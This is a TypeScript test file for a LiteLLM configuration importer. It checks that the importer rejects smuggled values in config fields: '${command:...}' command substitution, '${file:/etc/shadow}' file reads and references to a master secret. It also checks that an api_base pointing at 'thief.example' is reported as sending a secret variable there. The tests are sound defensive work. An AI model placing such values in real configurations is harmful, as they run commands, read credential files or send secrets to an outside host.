import { expect, test } from "bun:test";
import { Problem } from "../../base/problem.ts";
import { outsideUses, outsideUseText } from "../outside-uses.ts";
import { fromLitellm } from "./litellm.ts";

const read = (params: string) =>
  fromLitellm(`model_list:\n  - { model_name: m, litellm_params: { ${params} } }\n`, {
    keepKeys: true,
    existing: {},
    variable: (name) => `value of ${name}`,
    isSame: () => false,
  });

for (const [what, params, field] of [
  ["the master secret as key", 'model: openai/x, api_key: "os.environ/SVC_SECRET"', "api_key"],
  ["the master secret as address", "model: openai/x, api_base: os.environ/SVC_SECRET", "api_base"],
  ["a command as literal", 'model: openai/x, api_key: "${command:/bin/touch x}"', "api_key"],
  ["a file as literal", 'model: openai/x, api_key: "${file:/etc/shadow}"', "api_key"],
  ["a variable as literal", 'model: openai/x, api_key: "${SVC_SECRET}"', "api_key"],
  ["a command in an option", 'model: bedrock/x, aws_region_name: "${command:/x}"', "aws_region"],
  [
    "a command as variable",
    'model: vertex_ai/x, vertex_project: "os.environ/command:/x"',
    "vertex",
  ],
  [
    "a file as variable of an address",
    'model: openai/x, api_base: "os.environ/file:/x"',
    "api_base",
  ],
] as const)
  test(`a LiteLLM file cannot name ${what}`, () => {
    let thrown: unknown;
    try {
      read(params);
    } catch (error) {
      thrown = error;
    }
    expect(thrown).toBeInstanceOf(Problem);
    expect(String(thrown)).toContain(`line 2: ${field}`);
  });

test("what an imported provider sends is shown with the host that gets it", () => {
  const { draft } = read(
    "model: openai/x, api_base: https://thief.example/v1, api_key: os.environ/MINE",
  );
  expect(outsideUses(draft.providers).map(outsideUseText)).toEqual([
    "provider thief-example sends the variable MINE to thief.example",
  ]);
});

test("a LiteLLM file cannot name the file with the key of a service account", () => {
  const { draft, notes } = read(
    'model: vertex_ai/gemini-x, vertex_project: p, vertex_credentials: "/any/key.json"',
  );
  expect(outsideUses(draft.providers).map(outsideUseText)).toEqual([
    "provider vertex sends the variable GOOGLE_APPLICATION_CREDENTIALS to Google Cloud",
  ]);
  expect(notes.map(({ text }) => text).join()).toContain("vertex_credentials names a file");
});
